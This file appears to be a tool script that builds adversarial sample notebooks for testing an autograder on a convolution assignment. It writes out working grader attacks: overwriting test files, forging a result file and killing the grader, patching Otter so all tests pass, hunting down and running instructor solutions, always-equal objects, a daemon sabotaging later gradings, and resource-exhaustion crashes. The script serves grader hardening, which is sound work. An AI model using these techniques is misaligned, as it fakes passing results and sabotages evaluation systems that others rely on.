"""Writes the attack samples of assignments/samples/a1_convolution from perfect.ipynb's answers.

    .venv/bin/python tools/make_attack_samples.py      (from the repository root)
"""
# ruff: noqa: E501  (the samples' code is written as a student would, in long strings)
import copy

import nbformat

base = nbformat.read("assignments/samples/a1_convolution/perfect.ipynb", 4)
answer = [i for i, c in enumerate(base.cells) if "otter_answer_cell" in c.metadata.get("tags", [])]
Q1, Q2, Q3, Q4 = (base.cells[i].source for i in answer)
EMPTY = ["def correlate2d(image, kernel):\n    ...", "def conv2d(x, kernel, bias, stride=1, padding=\"valid\"):\n    ...",
         "def max_pool2d(x, pool_size=2, stride=None):\n    ...", "q4_shape = ...\nq4_params = ..."]

def write(name, answers, doc, metadata=None):
    nb = copy.deepcopy(base)
    for i, source in zip(answer, answers, strict=True):
        nb.cells[i].source = source
    if metadata:
        nb.metadata.update(metadata)
    nbformat.write(nb, f"assignments/samples/a1_convolution/{name}.ipynb")

def attack(code, name):
    write(name, [code + "\n\n" + EMPTY[0], *EMPTY[1:]], name)

attack('''# ATTACK: overwrite the test files found in the working directory (and raise the points).
import glob, os
folders = [".", "tests", "/autograder/source/tests"]
for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
    folders += glob.glob(f"{top}/**/tests", recursive=True)[:50]
for folder in folders:
    for path in glob.glob(os.path.join(folder, "q*.py")):
        try:
            with open(path, "w") as f:
                f.write("OK_FORMAT = False\\nname = 'q'\\npoints = 100\\n\\ndef test_pass():\\n    pass\\n")
        except OSError:
            pass''', "attack_overwrite_tests")

attack('''# ATTACK: write the grader's result file and kill the grader.
import json, os, signal, tempfile
result = {"status": "graded", "score": 12, "possible": 12, "message": "",
          "questions": {q: {"score": p, "possible": p, "feedback": "ok"} for q, p in
                        (("q1", 3), ("q2", 4), ("q3", 3), ("q4", 2))}}
for folder in {tempfile.gettempdir(), os.environ.get("TMPDIR", "/tmp"), os.getcwd(), ".."}:
    try:
        with open(os.path.join(folder, "result.json"), "w") as f:
            json.dump(result, f)
    except OSError:
        pass
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass''', "attack_result_json")

attack('''# ATTACK: patch Otter's test runner so that every test passes.
try:
    import otter.test_files.abstract_test as abstract_test
    abstract_test.TestFile.score = property(lambda self: self.possible)
    abstract_test.TestFile.all_or_nothing = False
    import otter.test_files.exception_test as exception_test
    exception_test.ExceptionTestFile.run = lambda self, global_environment: None
except Exception as error:
    print("patching otter failed:", error)''', "attack_patch_otter")

attack('''# ATTACK: find the instructor's solutions (from the parent's command line, or anywhere) and run them.
import glob, json, os
found = []
for pid in (os.getppid(), 1):
    try:
        found += [a for a in open(f"/proc/{pid}/cmdline").read().split("\\0") if a.endswith((".ipynb", ".zip"))]
    except OSError:
        pass
for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
    found += glob.glob(f"{top}/**/a1_convolution*.ipynb", recursive=True)[:20]
    found += glob.glob(f"{top}/**/*autograder*.zip", recursive=True)[:20]
for path in found:
    if path.endswith(".ipynb") and os.path.exists(path):
        cells = json.load(open(path))["cells"]
        code = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
        solution = [c for c in code if "def correlate2d" in c and "..." not in c]
        if solution:
            exec(solution[0])''', "attack_copy_solutions")

attack('''# CHEAT: make numpy's comparisons always pass.
import numpy
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True''', "cheat_numpy_testing")

attack('''# CHEAT: every later compile() drops its asserts.
import builtins
_compile = builtins.compile
builtins.compile = lambda *args, **kwargs: _compile(*args, **{**kwargs, "optimize": 2})''', "cheat_optimize")

write("cheat_always_equal", ['''# CHEAT: values whose == is always true.
class Equal(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)


def correlate2d(image, kernel):
    return np.zeros(1).view(Equal)''', '''def conv2d(x, kernel, bias, stride=1, padding="valid"):
    return np.zeros(1).view(Equal)''', '''def max_pool2d(x, pool_size=2, stride=None):
    return np.zeros(1).view(Equal)''', '''class Anything(tuple):
    def __eq__(self, other):
        return True


class AnyInt(int):
    def __eq__(self, other):
        return True


q4_shape = Anything((0, 0, 0))
q4_params = AnyInt(0)'''], "cheat_always_equal")

attack('''# ATTACK: rewrite every autograder zip it can find (to sabotage the gradings that follow).
import glob, os, zipfile
paths = []
for top in ("/tmp", "/home", "/autograder", "/submission", "/mnt", "/srv"):
    paths += glob.glob(f"{top}/**/*autograder*.zip", recursive=True)[:50]
for pid in (os.getppid(), 1):
    try:
        paths += [a for a in open(f"/proc/{pid}/cmdline").read().split("\\0") if a.endswith(".zip")]
    except OSError:
        pass
for path in paths:
    try:
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr("tests/q1.py", "raise SystemExit")
    except OSError:
        pass''', "attack_rewrite_zip")

attack('''# ATTACK: leave a detached process behind that rewrites the tests of the gradings that follow.
import os, subprocess, sys
daemon = """
import glob, time
while True:  # cnnrnn-attack-daemon-marker
    for path in glob.glob('/tmp/**/tests/q*.py', recursive=True):
        try:
            open(path, 'w').write('raise SystemExit')
        except OSError:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)''', "attack_daemon")

write("crash_exit", [Q1, Q2 + "\n\n\nimport os\n\nos._exit(3)  # the kernel dies in question 2", Q3, Q4], "crash_exit")
write("crash_segfault", [Q1, Q2 + "\n\n\nimport ctypes\n\nctypes.string_at(0)  # a segmentation fault in question 2", Q3, Q4], "crash_segfault")
write("memory_hog", [Q1, Q2 + "\n\n\nhog = np.ones((1 << 40,))  # 8 TiB", Q3, Q4], "memory_hog")
write("attack_processes", [Q1, Q2 + "\n\n\nimport subprocess\n\nfor _ in range(1000):  # more processes than the sandbox allows\n    subprocess.Popen([\"sleep\", \"60\"])", Q3, Q4], "attack_processes")
write("rule_scipy_elsewhere", ['''# Breaks the NumPy-only rule with a SciPy found outside the course's environment.
import glob
import sys

sys.path[:0] = glob.glob(f"{sys.base_prefix}/lib/python3*/site-packages") + glob.glob("/usr/lib/python3/dist-packages")
from scipy.signal import correlate2d as _scipy_correlate2d


def correlate2d(image, kernel):
    return _scipy_correlate2d(image, kernel, mode="valid")''', Q2, Q3, Q4], "rule_scipy_elsewhere")
write("kernel_name", [Q1, Q2, Q3, Q4], "kernel_name",
      {"kernelspec": {"display_name": "Python (ml)", "language": "python", "name": "conda-env-ml-py"}})
write("rule_keras", ['''# Breaks the NumPy-only rule: Keras computes the answers.
import keras


def correlate2d(image, kernel):
    layer = keras.layers.Conv2D(1, np.shape(kernel), use_bias=False)
    layer.build((1, *np.shape(image), 1))
    layer.set_weights([np.reshape(kernel, (*np.shape(kernel), 1, 1))])
    return keras.ops.convert_to_numpy(layer(np.reshape(image, (1, *np.shape(image), 1))))[0, :, :, 0]''',
    EMPTY[1], '''import keras


def max_pool2d(x, pool_size=2, stride=None):
    return keras.ops.convert_to_numpy(keras.layers.MaxPooling2D(pool_size, strides=stride)(x))''', Q4], "rule_keras")
